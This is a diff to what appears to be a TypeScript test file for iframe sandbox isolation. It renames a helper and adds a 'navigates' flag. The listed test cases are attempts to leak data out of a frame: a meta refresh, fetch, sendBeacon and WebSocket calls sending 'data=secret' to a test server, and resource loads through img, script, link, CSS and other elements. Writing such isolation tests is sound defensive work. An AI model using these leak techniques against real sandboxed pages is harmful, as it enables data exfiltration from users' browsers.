@@ -48,19 +48,16 @@ export const frameLeaks: readonly Attack[] = [
      meta.content = "0;url=" + http + "/refresh?data=secret";
      document.head.append(meta);`,
   ),
-  navigation("a picture", element(`img`, `src`, `picture.svg`)),
-  navigation("a script", element(`script`, `src`, `script.js`)),
-  navigation("a style sheet", `${element("link", "href", "sheet.css", "rel = 'stylesheet'")}`),
-  navigation("a prefetch", `${element("link", "href", "prefetch", "rel = 'prefetch'")}`),
-  navigation(
-    "a preload",
-    `${element("link", "href", "preload.js", "rel = 'preload'; element.as = 'script'")}`,
-  ),
-  navigation("a frame", element("iframe", "src", "frame")),
-  navigation("an object", element("object", "data", "object.svg")),
-  navigation("an embed", element("embed", "src", "embed.svg")),
-  navigation("a video", element("video", "src", "video")),
-  navigation(
+  request("a picture", element(`img`, `src`, `picture.svg`)),
+  request("a script", element(`script`, `src`, `script.js`)),
+  request("a style sheet", `${element("link", "href", "sheet.css", "rel = 'stylesheet'")}`),
+  request("a prefetch", `${element("link", "href", "prefetch", "rel = 'prefetch'")}`),
+  request("a preload", `${element("link", "href", "preload.js", "rel = 'preload'; element.as = 'script'")}`),
+  request("a frame", element("iframe", "src", "frame")),
+  request("an object", element("object", "data", "object.svg")),
+  request("an embed", element("embed", "src", "embed.svg")),
+  request("a video", element("video", "src", "video")),
+  request(
     "a style",
     `const style = document.createElement("style");
      style.textContent = "@import url(" + http + "/import.css); body { background: url(" + http + "/background.svg) }";
@@ -68,12 +65,12 @@ export const frameLeaks: readonly Attack[] = [
      document.body.append("text");
      document.body.style.borderImage = "url(" + http + "/border.svg) 1";`,
   ),
-  navigation(
+  request(
     "fetch from the frame",
     `fetch(http + "/fetch?data=secret", { mode: "no-cors" }).catch(() => undefined);`,
   ),
-  navigation("sendBeacon from the frame", `navigator.sendBeacon(http + "/beacon?data=secret", "x");`),
-  navigation("WebSocket from the frame", `new WebSocket(webSocket + "/socket?data=secret");`),
+  request("sendBeacon from the frame", `navigator.sendBeacon(http + "/beacon?data=secret", "x");`),
+  request("WebSocket from the frame", `new WebSocket(webSocket + "/socket?data=secret");`),
 ];
 
 /** Attempts to touch the page around the frame; each returns "touched" when it could. */
@@ -91,6 +88,10 @@ export const parentAttacks: readonly Attack[] = [
 ];
 
 function navigation(name: string, code: string): Attack {
+  return { ...request(name, code), navigates: true };
+}
+
+function request(name: string, code: string): Attack {
   return {
     name,
     control: "frame",
